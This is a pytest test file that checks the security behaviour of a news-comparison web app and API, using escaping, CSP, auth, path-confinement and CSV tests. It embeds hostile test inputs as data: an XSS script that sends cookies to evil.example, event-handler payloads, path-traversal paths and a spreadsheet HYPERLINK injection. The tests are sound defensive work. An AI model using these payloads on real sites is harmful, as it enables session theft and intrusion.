"""The web app and JSON API through a real ASGI client: escaping, the token, one error shape."""

from __future__ import annotations

import json

import pytest
from starlette.testclient import TestClient

from newsprism.present.web import create_app
from newsprism.present.web.app import CSP, MAX_UPLOAD_BYTES

from .conftest import SEEDS

GOLD = json.loads((SEEDS / "gold.json").read_text(encoding="utf-8"))

TOKEN = "test-token-123"
EVIL_TITLE = '<script>alert("t")</script><img src=x onerror="alert(1)">'
EVIL_BODY = ('The minister said <script>document.location="http://evil.example/"+document.cookie</script> '
             'that <b onmouseover="alert(2)">talks</b> would resume on Monday in Geneva. ') * 3


@pytest.fixture
def client(tmp_path):
    app = create_app(str(tmp_path / "web.db"), TOKEN)
    with TestClient(app) as c:
        yield c


def _ingest(client, records, token=TOKEN):
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return client.post("/api/ingest", json={"records": records}, headers=headers)


def _seed_records():
    return [{"text": p.read_text(encoding="utf-8"), "outlet": name}
            for p, name in zip(sorted(SEEDS.glob("*.txt")), ["DW", "TRT World"])]


def test_ingest_needs_the_token_and_uses_one_error_shape(client):
    for token in (None, "wrong"):
        r = _ingest(client, _seed_records(), token)
        assert r.status_code == 401
        assert set(r.json()["error"]) == {"status", "code", "message"}
    assert client.get("/articles.json").json()["articles"] == []
    r = _ingest(client, _seed_records())
    assert r.status_code == 200 and r.json()["added"] == 2


def test_malformed_requests_get_the_same_json_error_shape(client):
    cases = [
        client.post("/api/ingest", content=b"{not json", headers={"Authorization": f"Bearer {TOKEN}",
                                                                   "content-type": "application/json"}),
        client.get("/article/doesnotexist.json"),
        client.get("/no/such/page.json"),
        client.get("/articles.json?limit=lots"),
        client.post("/api/ingest", content=b"x" * (MAX_UPLOAD_BYTES + 1), headers={"Authorization": f"Bearer {TOKEN}"}),
        client.get("/api/ingest"),
    ]
    statuses = [r.status_code for r in cases]
    assert statuses == [400, 404, 404, 400, 413, 405]
    for r in cases:
        body = r.json()
        assert set(body) == {"error"} and set(body["error"]) == {"status", "code", "message"}
        assert body["error"]["status"] == r.status_code


def test_script_in_title_and_body_is_text_everywhere(client):
    r = _ingest(client, [{"text": EVIL_BODY, "title": EVIL_TITLE, "outlet": "Evil <i>Times</i>"}])
    article_id = r.json()["ids"][0]
    pages = [f"/article/{article_id}", "/articles", "/search?q=minister", "/outlet/Evil%20%3Ci%3ETimes%3C%2Fi%3E"]
    for page in pages:
        html = client.get(page).text
        assert "<script>alert" not in html and "<script>document" not in html, page
        assert "onerror=\"alert" not in html and "<b onmouseover" not in html, page
        assert "<i>Times</i>" not in html, page
    html = client.get(f"/article/{article_id}").text
    assert "&lt;script&gt;alert(&#34;t&#34;)&lt;/script&gt;" in html  # shown, as text
    data = client.get(f"/article/{article_id}.json").json()
    assert data["title"] == EVIL_TITLE  # the API returns the text itself, as JSON data


def test_every_response_forbids_inline_script_and_outside_loads(client):
    for path in ("/stories", "/articles", "/ingest", "/openapi.json", "/static/style.css", "/nope"):
        r = client.get(path)
        assert r.headers["content-security-policy"] == CSP
        assert "script-src 'self'" in CSP and "default-src 'self'" in CSP
    html = client.get("/ingest").text
    assert "http://" not in html.replace("http://testserver", "") and "https://" not in html
    assert "<script>" not in html  # the only script is the app's own file


def test_static_paths_cannot_escape(client):
    for path in ("/static/../app.py", "/static/..%2fapp.py", "/static/%2e%2e/views.py"):
        r = client.get(path)
        assert r.status_code == 404 and "create_app" not in r.text


def test_pages_and_their_json_twins(client):
    _ingest(client, _seed_records())
    rows = client.get("/articles.json").json()["articles"]
    assert len(rows) == 2
    for row in rows:
        page = client.get(f"/article/{row['id']}")
        assert page.status_code == 200 and "Removed from the page" in page.text
        twin = client.get(f"/article/{row['id']}.json").json()
        assert twin["id"] == row["id"] and "".join(s["text"] for s in twin["segments"]) == twin["text"]
        paras = ["".join(s["text"] for s in p["segments"]) for p in twin["paragraphs"]]
        assert "\n\n".join(paras) == twin["text"]
        shown = [p["heading"] for p in twin["paragraphs"] if p["heading"]]
        outlet_key = "dw" if twin["outlet"] == "DW" else "trt"
        assert shown == GOLD["articles"][outlet_key]["not_body"]["section_headings"]
        assert all(f"<h3>{h}</h3>" in page.text for h in shown)
    outlet = client.get("/outlet/DW.json").json()
    assert outlet["outlet"] == "DW" and len(outlet["articles"]) == 1
    assert [s["outlets"] for s in outlet["stories"]] == [2]  # the seeds' one story
    # What TRT World reports and DW leaves out: gold facts whose sentences are TRT's only.
    omitted = " ".join(f["text"] for f in outlet["often_omits"])
    trt_only = [GOLD["articles"]["trt"]["body_sentences"][k] for f in GOLD["facts"] if not f["dw"] for k in f["trt"]]
    assert sum(s in omitted for s in trt_only) >= len(trt_only) // 2
    assert client.get("/search.json?q=tomatoes").json()["results"]
    spec = client.get("/openapi.json").json()
    assert spec["openapi"].startswith("3.") and "/story/{story_id}.json" in spec["paths"]


def test_upload_from_the_browser_form(client):
    files = [("files", ("dw.txt", (SEEDS / "000_b6d28b3d5f38a964.txt").read_bytes(), "text/plain")),
             ("files", ("../../etc/passwd.exe", b"MZ binary", "application/octet-stream"))]
    r = client.post("/api/ingest", data={"token": TOKEN}, files=files, headers={"accept": "application/json"})
    assert r.status_code == 207
    body = r.json()
    assert body["added"] == 1 and body["rejected"][0]["reason"] == "unknown-extension"
    assert body["rejected"][0]["source"] == "upload:passwd.exe"
    r = client.post("/api/ingest", data={"token": "nope"}, files=files[:1])
    assert r.status_code == 401


def test_a_storys_fact_matrix_downloads_as_csv(client):
    import csv
    import io

    _ingest(client, _seed_records())
    story_id = client.get("/stories.json").json()["stories"][0]["id"]
    r = client.get(f"/story/{story_id}.csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(r.text)))
    facts = client.get(f"/story/{story_id}.json").json()["comparison"]["facts"]
    assert len(rows) == 2 * len(facts)
    assert {(x["fact"], x["outlet"]): x["status"] for x in rows} == \
        {(f["id"], o): c["status"] for f in facts for o, c in f["cells"].items()}
    tomatoes = [x for x in rows if x["outlet"] == "TRT World" and x["status"] == "qualified"
                and "except those on exports of Turkish tomatoes into Russia" in x["quoted"]]
    assert tomatoes and all(s.count("-") == 1 for s in tomatoes[0]["spans"].split(";"))
    page = client.get(f"/story/{story_id}").text
    assert f"/story/{story_id}.csv" in page
    # the summary line that cites TRT World for no-fly says TRT has Putin set a condition (quotes escaped)
    summary = page.split("<h2>Summary</h2>", 1)[1].split("</ul>", 1)[0]
    caveats = [c.split("</span>", 1)[0] for c in summary.split('<span class="caveat">')[1:]]
    assert any(c.startswith("(TRT World adds condition &#34;") and "on condition that no military activity" in c
               for c in caveats)
    lone = _ingest(client, [{"text": EVIL_BODY, "title": "Talks in Geneva", "outlet": "Lone"}])
    assert lone.status_code == 200
    stories = client.get("/stories.json").json()["stories"]
    single = next(s for s in stories if s["articles"] == 1)
    r = client.get(f"/story/{single['id']}.csv", headers={"Accept": "application/json"})
    assert r.status_code == 404 and r.json()["error"]["code"] == "no-comparison"


def test_csv_cells_that_a_spreadsheet_would_run_are_text():
    from newsprism.compare.report import facts_csv

    comparison = {"articles": [{"id": "a1", "outlet": "A"}],
                  "facts": [{"id": "F1", "text": '=HYPERLINK("http://evil.example","x")', "sources": 1, "first": None,
                             "cells": {"A": {"status": "reported", "reason": "only this outlet reports it",
                                             "quoted": [], "evidence": [{"start": 0, "end": 5, "text": "@SUM(1)"}]}}}]}
    row = facts_csv(comparison).splitlines()[1]
    assert row.startswith('F1,"\'=HYPERLINK(') and ",'@SUM(1)," in row
